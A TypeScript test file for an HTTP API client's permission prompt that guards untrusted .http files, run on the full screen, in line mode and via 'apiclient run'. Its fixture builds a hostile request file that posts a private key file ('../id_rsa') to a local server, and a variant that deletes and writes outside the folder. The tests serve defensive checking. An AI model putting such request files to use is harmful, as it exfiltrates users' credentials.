/** A third-party file opened in a terminal: on the full screen and in line mode. */
import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { temporaryFolder } from '../../support/program.js';
import { closeServers, httpServer } from '../../support/servers/http-server.js';
import { startInTerminal } from '../../support/terminal.js';

afterAll(closeServers);

async function hostile() {
  const { url, seen } = await httpServer(response => response.end('got it'));
  const home = temporaryFolder();
  const folder = path.join(home, 'repo');
  mkdirSync(folder);
  writeFileSync(path.join(home, 'id_rsa'), '5ecret');
  writeFileSync(path.join(folder, 'x.http'), `POST ${url}/\n\n< ../id_rsa\n`);
  return { url, seen, home, folder };
}

const posts = (seen: readonly { readonly method: string }[]): number =>
  seen.filter(({ method }) => method === 'POST').length;

test('the full screen shows the manifest; No sends nothing, Always sends and stores the approval', async () => {
  const { seen, home, folder } = await hostile();
  const open = async () => {
    const terminal = startInTerminal(['open', 'x.http'], { home, folder, columns: 100, rows: 40 });
    await terminal.untilShown('< ../id_rsa');
    terminal.write('\u0012');
    return terminal;
  };
  const terminal = await open();
  await terminal.untilShown('x.http wants to:');
  expect(terminal.screen()).toMatch(/read +\.\.\/id_rsa/);
  expect(posts(seen)).toBe(0);
  terminal.write('\r');
  await terminal.untilScreen(screen => !screen.includes('wants to:'), 'the question is gone');
  expect(posts(seen)).toBe(0);
  terminal.write('\u0012');
  await terminal.untilShown('x.http wants to:');
  terminal.write('Always\r');
  await terminal.untilShown('got it');
  terminal.write('\u001bq');
  await terminal.ended;
  const again = await open();
  await again.untilShown('got it');
  expect(posts(seen)).toBe(2);
});

test('line mode prints the manifest, and accepts the answer by number', async () => {
  const { url, seen, home, folder } = await hostile();
  const terminal = startInTerminal([url, '--linear'], { home, folder, columns: 100, rows: 60 });
  await terminal.untilShown('No OpenAPI description');
  terminal.write('open file\r');
  await terminal.untilShown('x.http');
  terminal.write('x.http\r');
  await terminal.untilShown('Opened');
  terminal.write('run\r');
  await terminal.untilShown('x.http wants to:');
  await terminal.untilShown('3. Always');
  expect(terminal.screen()).toMatch(/read +\.\.\/id_rsa/);
  terminal.write('1\r');
  terminal.write('run\r');
  await terminal.untilScreen(screen => screen.split('wants to:').length === 3, 'the question again');
  expect(posts(seen)).toBe(0);
  terminal.write('2\r');
  await terminal.untilShown('got it');
  expect(posts(seen)).toBe(1);
});

test('`apiclient run` prompts on its terminal', async () => {
  const { seen, home, folder } = await hostile();
  const run = async (reply: string) => {
    const terminal = startInTerminal(['run', 'x.http'], { home, folder, columns: 100, rows: 40 });
    await terminal.untilShown('Allow this file to do so? [y]es, once / [a]lways / [N]o');
    expect(terminal.screen()).toMatch(/x\.http wants to:\n {2}read +\.\.\/id_rsa/);
    terminal.write(`${reply}\r`);
    return (await terminal.ended).code;
  };
  expect([await run(''), posts(seen)]).toEqual([2, 0]);
  expect([await run('y'), posts(seen)]).toEqual([0, 1]);
  expect([await run('a'), posts(seen)]).toEqual([0, 2]);
  const silent = startInTerminal(['run', 'x.http'], { home, folder, columns: 100, rows: 40 });
  expect([(await silent.ended).code, posts(seen)]).toEqual([0, 3]);
});

test('a file that changes after the prompt runs with the approved text', async () => {
  const { url, seen, home, folder } = await hostile();
  const terminal = startInTerminal(['run', 'x.http'], { home, folder, columns: 100, rows: 40 });
  await terminal.untilShown('Allow this file to do so?');
  writeFileSync(path.join(folder, 'x.http'), `DELETE ${url}/all\n\n>>! ../written\n`);
  terminal.write('a\r');
  expect((await terminal.ended).code).toBe(0);
  expect([seen.map(({ method }) => method), existsSync(path.join(home, 'written'))]).toEqual([['POST'], false]);
  const again = startInTerminal(['run', 'x.http'], { home, folder, columns: 100, rows: 40 });
  await again.untilShown('write  ../written');
  again.write('n\r');
  expect([(await again.ended).code, seen.length]).toEqual([2, 1]);
});
